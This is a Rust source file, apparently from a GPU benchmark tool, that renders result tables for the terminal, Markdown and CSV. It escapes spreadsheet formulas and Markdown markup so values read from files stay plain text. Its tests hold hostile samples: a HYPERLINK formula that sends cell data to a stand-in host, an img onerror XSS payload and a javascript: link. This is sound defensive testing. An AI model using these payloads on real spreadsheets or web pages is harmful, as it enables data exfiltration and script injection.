//! A table of text cells that the text formats draw in their own way: comfy-table for the
//! terminal, pipes for Markdown, commas for CSV. Builders decide the cells once.

use comfy_table::{Cell, CellAlignment, ColumnConstraint, Table, Width};

/// A cell's colour in a terminal table: comfy-table's own natively.
#[cfg(not(target_arch = "wasm32"))]
pub use comfy_table::Color;

/// A cell's colour in a terminal table. comfy-table's colours come with its tty feature, which
/// a browser build (wasm32) leaves out (crossterm does not build there); a browser has no
/// terminal, so these name the colours the tables ask for and none is drawn.
#[cfg(target_arch = "wasm32")]
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Color {
    /// A worse result.
    Red,
    /// A better result.
    Green,
}

use crate::layout::{framed_table, text_width, wrap_words};
use crate::numbers::printable;

/// Header and rows of text cells.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Grid {
    /// Column names.
    pub header: Vec<String>,
    /// Rows, each as long as the header.
    pub rows: Vec<Vec<String>>,
    /// Columns (by index) whose cells are numbers, right-aligned where the format can.
    pub numeric: Vec<usize>,
}

impl Grid {
    /// A grid with this header.
    pub fn new(header: &[&str]) -> Self {
        Self {
            header: header.iter().map(ToString::to_string).collect(),
            rows: Vec::new(),
            numeric: Vec::new(),
        }
    }

    /// Marks columns as numeric.
    pub fn numeric(mut self, columns: &[usize]) -> Self {
        self.numeric = columns.to_vec();
        self
    }

    /// Adds a row.
    pub fn push(&mut self, row: Vec<String>) {
        self.rows.push(row);
    }

    /// A terminal table, fitted to `width` columns when given: the first column and numeric
    /// columns are kept whole, the other columns wrap at word boundaries.
    pub fn to_table(&self, width: Option<u16>) -> String {
        let wrap = (1..self.header.len())
            .filter(|i| !self.numeric.contains(i))
            .collect();
        TerminalGrid::new(self.clone(), wrap).render(width)
    }

    /// A GitHub-flavoured Markdown table.
    pub fn to_markdown(&self) -> String {
        let line = |cells: &[String]| {
            let escaped: Vec<String> = cells.iter().map(|c| markdown_text(c)).collect();
            format!("| {} |\n", escaped.join(" | "))
        };
        let mut out = line(&self.header);
        let rule: Vec<String> = (0..self.header.len())
            .map(|i| {
                if self.numeric.contains(&i) {
                    "---:".to_string()
                } else {
                    "---".to_string()
                }
            })
            .collect();
        out.push_str(&format!("|{}|\n", rule.join("|")));
        for row in &self.rows {
            out.push_str(&line(row));
        }
        out
    }

    /// RFC 4180 CSV with a header line.
    pub fn to_csv(&self) -> String {
        let line = |cells: &[String]| {
            let escaped: Vec<String> = cells.iter().map(|c| csv_cell(c)).collect();
            escaped.join(",") + "\n"
        };
        let mut out = line(&self.header);
        for row in &self.rows {
            out.push_str(&line(row));
        }
        out
    }
}

/// A grid as the terminal draws it: which columns hold free text (the only ones that may wrap,
/// at word boundaries) and which cells are coloured. Columns can be dropped or shortened to fit a
/// narrow terminal before it is drawn.
#[derive(Debug, Clone)]
pub struct TerminalGrid {
    /// The cells.
    pub grid: Grid,
    /// Columns (by index) of free text, which wrap when the table is wider than its width.
    pub wrap: Vec<usize>,
    /// Coloured cells: row, column, colour (drawn as ANSI styling by comfy-table).
    pub colors: Vec<(usize, usize, Color)>,
}

impl TerminalGrid {
    /// `grid`, with free text in the `wrap` columns and no colour. Its cells are made
    /// terminal-safe here, once: each is [`printable`] (so escapes count in the widths, and
    /// colour, added when drawn, is never escaped) and at most [`MAX_CELL_CHARS`] characters
    /// (the table library lays a cell out in time that grows with the square of its length,
    /// and no terminal shows more: a 100 MB id from a hostile file is cut, saying how much; the
    /// file and the machine-readable formats keep it whole).
    pub fn new(mut grid: Grid, wrap: Vec<usize>) -> Self {
        for cell in grid.header.iter_mut().chain(grid.rows.iter_mut().flatten()) {
            let shown = printable(&bounded_cell(cell));
            if shown != *cell {
                *cell = shown;
            }
        }
        Self {
            grid,
            wrap,
            colors: Vec::new(),
        }
    }

    /// The index of the column named `name`, the first (the ids) excepted.
    pub fn column(&self, name: &str) -> Option<usize> {
        (1..self.grid.header.len()).find(|&i| self.grid.header[i] == name)
    }

    /// Removes column `column`, keeping the other columns' marks.
    pub fn drop_column(&mut self, column: usize) {
        if column >= self.grid.header.len() {
            return;
        }
        self.grid.header.remove(column);
        for row in &mut self.grid.rows {
            if column < row.len() {
                row.remove(column);
            }
        }
        let shift = |marks: &mut Vec<usize>| {
            marks.retain(|&c| c != column);
            for c in marks.iter_mut() {
                if *c > column {
                    *c -= 1;
                }
            }
        };
        shift(&mut self.grid.numeric);
        shift(&mut self.wrap);
        self.colors.retain(|&(_, c, _)| c != column);
        for (_, c, _) in &mut self.colors {
            if *c > column {
                *c -= 1;
            }
        }
    }

    /// Rewrites every cell of column `column` (not its header) with `short`.
    pub fn shorten_column(&mut self, column: usize, short: impl Fn(&str) -> String) {
        for row in &mut self.grid.rows {
            if let Some(cell) = row.get_mut(column) {
                *cell = short(cell);
            }
        }
    }

    /// How wide the table is drawn with every cell on one line: each column its widest line
    /// and a space either side, one border before each column and one to close.
    pub fn natural_width(&self) -> usize {
        natural_of(&self.grid)
    }

    /// How wide the table is drawn with its free-text columns wrapped at every space (their
    /// longest word), the narrowest wrapping can make it.
    pub fn narrowest_width(&self) -> usize {
        self.narrowest_of(&self.grid)
    }

    /// [`TerminalGrid::narrowest_width`] of `cells` (this grid's cells, being laid out).
    fn narrowest_of(&self, cells: &Grid) -> usize {
        let columns = cells.header.len();
        (0..columns)
            .map(|c| {
                let texts = std::iter::once(&cells.header[c])
                    .chain(cells.rows.iter().filter_map(|r| r.get(c)));
                let widest = if self.wrap.contains(&c) {
                    texts
                        .flat_map(|t| t.split_whitespace())
                        .map(text_width)
                        .max()
                } else {
                    texts.flat_map(|t| t.lines()).map(text_width).max()
                };
                widest.unwrap_or(0) + 3
            })
            .sum::<usize>()
            + 1
    }

    /// The table, fitted to `width` columns when given by wrapping the free-text columns at
    /// word boundaries (numbers never wrap; ids only after a slash, where nothing else makes
    /// the table fit), else with every cell on one line.
    pub fn render(mut self, width: Option<u16>) -> String {
        if let Some(width) = width {
            let mut cells = std::mem::take(&mut self.grid);
            self.wrap_to(&mut cells, usize::from(width));
            self.grid = cells;
        }
        self.draw()
    }

    /// Where even the free text wrapped at every space leaves the table wider than `width`,
    /// the first column (the ids) wraps after its slashes to the room the other columns leave
    /// (at least [`MIN_ID_ROOM`]), each continuation line indented two spaces: an id is cut
    /// only where it has a slash, and a part longer than the room stays whole.
    fn wrap_ids(&self, cells: &mut Grid, width: usize) {
        if cells.header.is_empty() || self.wrap.contains(&0) || cells.numeric.contains(&0) {
            return;
        }
        let narrowest = self.narrowest_of(cells);
        let ids = column_width(cells, 0);
        if narrowest <= width {
            return;
        }
        // The room the other columns leave at their natural width (values stay on one line),
        // else at their narrowest.
        let beside = |total: usize| width.saturating_sub(total.saturating_sub(ids));
        let room = match beside(natural_of(cells)) {
            room if room >= MIN_ID_ROOM => room,
            _ => beside(narrowest).max(MIN_ID_ROOM),
        };
        if room >= ids {
            return;
        }
        for row in &mut cells.rows {
            if let Some(cell) = row.first_mut() {
                *cell = wrap_at_slashes(cell, room);
            }
        }
    }

    /// Wraps the free-text columns of `cells` so the table fits `width`, where it can.
    fn wrap_to(&self, cells: &mut Grid, width: usize) {
        self.wrap_ids(cells, width);
        let columns = cells.header.len();
        // Each column takes its text, a space either side and one border; one border closes.
        let frame = 3 * columns + 1;
        let fixed: usize = (0..columns)
            .filter(|c| !self.wrap.contains(c))
            .map(|c| column_width(cells, c))
            .sum();
        let free: Vec<usize> = self.wrap.iter().copied().filter(|&c| c < columns).collect();
        let wanted: usize = free.iter().map(|&c| column_width(cells, c)).sum();
        // Wrapping that cannot make the table fit (ids too long) would only add lines.
        if frame + fixed + wanted <= width || free.is_empty() || self.narrowest_of(cells) > width {
            return;
        }
        let room = width.saturating_sub(frame + fixed);
        for &c in &free {
            let natural = column_width(cells, c);
            // Shares of the room in proportion to each column's natural width.
            let share = (room * natural).checked_div(wanted).unwrap_or(0).max(1);
            if share >= natural {
                continue;
            }
            let wrap_cell = |cell: &mut String| {
                let lines: Vec<String> = cell
                    .lines()
                    .flat_map(|line| wrap_words(line, share))
                    .map(|line| line.trim_start().to_string())
                    .collect();
                *cell = lines.join("\n");
            };
            wrap_cell(&mut cells.header[c]);
            for row in &mut cells.rows {
                if let Some(cell) = row.get_mut(c) {
                    wrap_cell(cell);
                }
            }
        }
    }

    /// Draws the cells (already escaped and wrapped) with every line as given. A table of
    /// more than [`ROWS_PER_SLICE`] rows is drawn a slice at a time, each slice with the whole
    /// table's column widths, and the slices joined without their repeated frame: the same
    /// bytes as one table, in memory bounded by a slice (the table library keeps several
    /// copies of every cell while it draws).
    fn draw(&self) -> String {
        let rows = self.grid.rows.len();
        if rows <= ROWS_PER_SLICE {
            return self.slice(0..rows, None).to_string();
        }
        let slices = || {
            (0..rows)
                .step_by(ROWS_PER_SLICE)
                .map(move |start| start..(start + ROWS_PER_SLICE).min(rows))
        };
        let mut widths = vec![0u16; self.grid.header.len()];
        for range in slices() {
            let table = self.slice(range, None);
            for (width, widest) in widths.iter_mut().zip(table.column_max_content_widths()) {
                *width = (*width).max(widest);
            }
        }
        let mut out = String::new();
        for range in slices() {
            let (first, last) = (range.start == 0, range.end == rows);
            let lines: Vec<String> = self.slice(range, Some(&widths)).lines().collect();
            // The frame above the rows (top border, header lines, the header's rule) and the
            // bottom border are drawn once, by the first and the last slice.
            let above = lines
                .iter()
                .position(|l| l.starts_with('╞'))
                .map_or(0, |at| at + 1);
            let from = if first { 0 } else { above };
            let to = if last {
                lines.len()
            } else {
                lines.len().saturating_sub(1)
            };
            for line in &lines[from..to] {
                out.push_str(line);
                out.push('\n');
            }
        }
        out.pop();
        out
    }

    /// The header and `rows` as one table, its columns `widths` wide (content, without the
    /// padding) where given, else as wide as their content.
    fn slice(&self, rows: std::ops::Range<usize>, widths: Option<&[u16]>) -> Table {
        let cells = &self.grid;
        let mut table = framed_table(cells.header.clone(), None);
        #[cfg(not(target_arch = "wasm32"))]
        if self.colors.is_empty() {
            table.force_no_tty();
        } else {
            table.enforce_styling();
        }
        #[cfg(not(target_arch = "wasm32"))]
        let colors: std::collections::HashMap<(usize, usize), Color> = self
            .colors
            .iter()
            .map(|&(r, c, color)| ((r, c), color))
            .collect();
        for r in rows {
            table.add_row(cells.rows[r].iter().enumerate().map(|(i, text)| {
                let mut cell = Cell::new(text);
                if cells.numeric.contains(&i) {
                    cell = cell.set_alignment(CellAlignment::Right);
                }
                #[cfg(not(target_arch = "wasm32"))]
                if let Some(&color) = colors.get(&(r, i)) {
                    cell = cell.fg(color);
                }
                cell
            }));
        }
        if let Some(widths) = widths {
            table.set_constraints(
                widths
                    .iter()
                    .map(|&w| ColumnConstraint::Absolute(Width::Fixed(w.saturating_add(2)))),
            );
        }
        table
    }
}

/// How wide `grid` is drawn with every cell as it is: each column its widest line and a space
/// either side, one border before each column and one to close.
fn natural_of(grid: &Grid) -> usize {
    (0..grid.header.len())
        .map(|c| column_width(grid, c) + 3)
        .sum::<usize>()
        + 1
}

/// The widest line of column `c` of `grid`, header included, in characters.
fn column_width(grid: &Grid, c: usize) -> usize {
    std::iter::once(&grid.header[c])
        .chain(grid.rows.iter().filter_map(|r| r.get(c)))
        .flat_map(|cell| cell.lines())
        .map(text_width)
        .max()
        .unwrap_or(0)
}

/// The narrowest the ids' column is made to fit a terminal (see [`TerminalGrid::wrap_ids`]).
const MIN_ID_ROOM: usize = 20;

/// `text` in lines of at most `room` characters, broken only after a `/`, each line after the
/// first indented two spaces (within `room`); a part longer than that stays whole.
fn wrap_at_slashes(text: &str, room: usize) -> String {
    let mut lines: Vec<String> = Vec::new();
    let mut line = String::new();
    for part in text.split_inclusive('/') {
        let limit = if lines.is_empty() {
            room
        } else {
            room.saturating_sub(2)
        };
        if !line.is_empty() && text_width(&line) + text_width(part) > limit {
            lines.push(std::mem::take(&mut line));
        }
        line.push_str(part);
    }
    lines.push(line);
    let mut out = lines.remove(0);
    for rest in lines {
        out.push_str("\n  ");
        out.push_str(&rest);
    }
    out
}

/// The most rows one table-library table draws (see [`TerminalGrid::draw`]).
const ROWS_PER_SLICE: usize = 2048;

/// The most characters of one cell the terminal table shows.
pub const MAX_CELL_CHARS: usize = 2000;

/// `text`, or its first [`MAX_CELL_CHARS`] characters and how many more there were.
fn bounded_cell(text: &str) -> std::borrow::Cow<'_, str> {
    match text.char_indices().nth(MAX_CELL_CHARS) {
        None => std::borrow::Cow::Borrowed(text),
        Some((cut, _)) => {
            let more = text[cut..].chars().count();
            std::borrow::Cow::Owned(format!("{}... ({more} more characters)", &text[..cut]))
        }
    }
}

/// Text as Markdown shows it literally, the one rule for every line gpubench writes there: `<`
/// becomes an entity (no `<img onerror=...>`, no autolink), and the characters that open links, code
/// spans and table cells (`[ ] | \\` and the backtick) are backslash-escaped, and a line break
/// is folded into a space, so a name from a file cannot become markup, a `javascript:` link,
/// a broken table or a line (a heading, a list item) of its own.
pub fn markdown_text(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\n' | '\r' => out.push(' '),
            // `<` alone opens a tag or an autolink; `>` and `&` cannot make markup mid-line.
            '<' => out.push_str("&lt;"),
            '[' | ']' | '`' | '|' | '\\' => {
                out.push('\\');
                out.push(c);
            }
            _ => out.push(c),
        }
    }
    out
}

/// A CSV field, quoted when it holds a comma, quote, line break or edge space. Text that a
/// spreadsheet would read as a formula (starting with `=`, `+`, `-`, `@`, a tab or a carriage
/// return, and not a number) takes a leading `'`, which spreadsheets show as text: an id,
/// reason or adapter name from a results file is never evaluated.
pub fn csv_cell(text: &str) -> String {
    let formula = text.starts_with(['=', '+', '-', '@', '\t', '\r'])
        && text.trim().parse::<f64>().is_err()
        && text != "-";
    let guarded;
    let text = if formula {
        guarded = format!("'{text}");
        guarded.as_str()
    } else {
        text
    };
    let needs_quotes =
        text.contains([',', '"', '\n', '\r']) || text.starts_with(' ') || text.ends_with(' ');
    if needs_quotes {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text.to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A grid of `rows` rows: ids, a numeric column, free text of varied widths, some cells on
    /// two lines, and a header wider than some columns.
    fn varied_grid(rows: usize) -> TerminalGrid {
        let mut grid = Grid::new(&["id", "value", "note"]).numeric(&[1]);
        for r in 0..rows {
            let note = match r % 7 {
                0 => "two\nlines".to_string(),
                3 => "a longer note ".repeat(1 + r % 3),
                _ => String::new(),
            };
            grid.push(vec![
                format!("suite/k/{}", r * 37 % 1001),
                format!("{}", r % 13 * 1000 + 7),
                note,
            ]);
        }
        let mut table = TerminalGrid::new(grid, vec![2]);
        table.colors = vec![(1, 1, Color::Red), (rows - 1, 2, Color::Green)];
        table
    }

    #[test]
    fn an_id_breaks_only_after_a_slash_and_a_long_part_stays_whole() {
        let id = "transfer/h2d-mapped-at-creation/fit/asymptotic-bandwidth";
        assert_eq!(
            wrap_at_slashes(id, 35),
            "transfer/h2d-mapped-at-creation/\n  fit/asymptotic-bandwidth"
        );
        assert_eq!(wrap_at_slashes(id, 80), id);
        // A part longer than the room is never cut.
        assert_eq!(
            wrap_at_slashes("a/averyveryverylongpart/b", 6),
            "a/\n  averyveryverylongpart/\n  b"
        );
    }

    #[test]
    fn a_long_table_drawn_in_slices_is_the_table_drawn_whole() {
        for rows in [ROWS_PER_SLICE + 1, 3 * ROWS_PER_SLICE + 17] {
            let table = varied_grid(rows);
            let whole = table.slice(0..rows, None).to_string();
            assert_eq!(table.draw(), whole, "{rows} rows");
        }
        let plain = TerminalGrid::new(varied_grid(5000).grid, vec![2]);
        assert_eq!(plain.draw(), plain.slice(0..5000, None).to_string());
    }

    #[test]
    fn the_natural_width_is_the_drawn_width() {
        for rows in [1, 10, ROWS_PER_SLICE + 3] {
            let table = varied_grid(rows);
            let drawn = TerminalGrid::new(table.grid.clone(), vec![2]).draw();
            assert_eq!(table.natural_width(), crate::layout::widest_line(&drawn));
        }
    }

    #[test]
    fn a_huge_cell_is_cut_for_the_terminal_saying_how_much() {
        let mut grid = Grid::new(&["id", "value"]);
        grid.push(vec!["x".repeat(MAX_CELL_CHARS + 5), "1".into()]);
        let text = grid.to_table(None);
        assert!(text.contains("... (5 more characters)"), "cut");
        assert!(!text.contains(&"x".repeat(MAX_CELL_CHARS + 1)));
        let mut small = Grid::new(&["id"]);
        small.push(vec!["y".repeat(MAX_CELL_CHARS)]);
        assert!(small.to_table(None).contains(&"y".repeat(MAX_CELL_CHARS)));
    }

    #[test]
    fn escaping() {
        for (cell, written) in [
            ("a,b", "\"a,b\""),
            ("say \"hi\"", "\"say \"\"hi\"\"\""),
            // A formula from a file stays text; numbers and the empty-value dash stay as they are.
            (
                "=HYPERLINK(\"http://x/?\"&A1,\"open\")",
                "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"open\"\")\"",
            ),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("+1+1", "'+1+1"),
            ("-1.5e-3", "-1.5e-3"),
            ("+2", "+2"),
            ("-", "-"),
            ("plain", "plain"),
        ] {
            assert_eq!(csv_cell(cell), written);
        }
        for (text, written) in [
            ("a|b\nc", "a\\|b c"),
            // Markup from a file stays text: no HTML, no link, no code span.
            (
                "<img src=x onerror=alert(1)>",
                "&lt;img src=x onerror=alert(1)>",
            ),
            (
                "[x](javascript:alert(1)) `c` \\",
                "\\[x\\](javascript:alert(1)) \\`c\\` \\\\",
            ),
            ("llvmpipe (LLVM 15.0.6) ±5%", "llvmpipe (LLVM 15.0.6) ±5%"),
        ] {
            assert_eq!(markdown_text(text), written);
        }
    }
}
